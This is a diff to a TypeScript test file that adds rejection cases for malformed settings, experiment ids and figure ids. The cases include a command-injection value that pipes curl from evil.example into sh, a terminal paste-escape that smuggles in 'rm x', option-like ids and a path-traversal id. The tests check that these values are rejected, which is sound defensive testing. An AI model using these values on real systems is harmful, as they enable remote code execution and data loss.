@@ -42,7 +42,40 @@ describe("what cannot be shown is told, with what to do", () => {
       /“shift”/,
     ],
   ];
-  test.each(cases)("%s", (_, text, message) => {
+  const [claim] = published.claims;
+  const [experiment] = experiments;
+  const [figure] = experiment.figures;
+  const withTest = (changed: object) => ({ claims: [{ ...claim, tests: [{ ...claim.tests[0], ...changed }] }] });
+  const withExperiment = (changed: object) => ({ experiments: [{ ...experiment, ...changed }] });
+  const settings = (changed: object) => ({ settings: { ...published.settings, ...changed } });
+  const foreign: [name: string, changed: object, message: RegExp][] = [
+    ["runs that are a command", settings({ runs: "1; curl evil.example | sh #" }), /its settings/],
+    ["runs that are no whole number", settings({ runs: 1.5 }), /its settings/],
+    ["a seed that is a list", settings({ seed: ["1"] }), /its settings/],
+    ["an empty seed", settings({ seed: "" }), /its settings/],
+    ["a seed with an escape that ends a paste", settings({ seed: "\u001b[201~\nrm x\n" }), /its settings/],
+    ["a critical value that is a text", { criticalZ: "3" }, /its settings/],
+    ["tests that are no number", { tests: null }, /its settings/],
+    ["an experiment that is an option", withExperiment({ id: "--all", conditions: [] }), /“--all”/],
+    ["an experiment that is a command", withExperiment({ id: "a;b", conditions: [] }), /“a;b”/],
+    ["a condition of another kind", withExperiment({ conditions: ["--out=/"] }), /“theorems”/],
+    ["a condition of two lines", withExperiment({ conditions: ["theorems/a\nb"] }), /“theorems”/],
+    ["a figure elsewhere", withExperiment({ figures: [{ ...figure, id: "../../index" }] }), /“theorems”/],
+    ["a hidden figure", withExperiment({ figures: [{ ...figure, id: ".own" }] }), /“theorems”/],
+    ["a claim with a place for an id", { claims: [{ ...claim, id: "a/b" }] }, /“a\/b”/],
+    ["an effect that is a text", withTest({ effect: "1" }), /“shift”/],
+    ["a test of no known kind", withTest({ kind: "constructor" }), /“shift”/],
+    ["a margin that is missing", withTest({ kind: "equivalent", sem: 1, runs: 1 }), /“shift”/],
+    ["a claim twice", { claims: [claim, claim] }, /“shift” is in it twice/],
+    ["a figure twice", withExperiment({ figures: [figure, figure] }), /“theorems-volatility” is in it twice/],
+  ];
+  const all = [
+    ...cases,
+    ...foreign.map(
+      ([name, changed, message]) => [name, JSON.stringify({ ...published, ...changed }), message] as const,
+    ),
+  ];
+  test.each(all)("%s", (_, text, message) => {
     const fault = faultOf(text);
     expect(fault.message).toMatch(message);
     expect(fault.advice).toContain("npx cause reproduce");
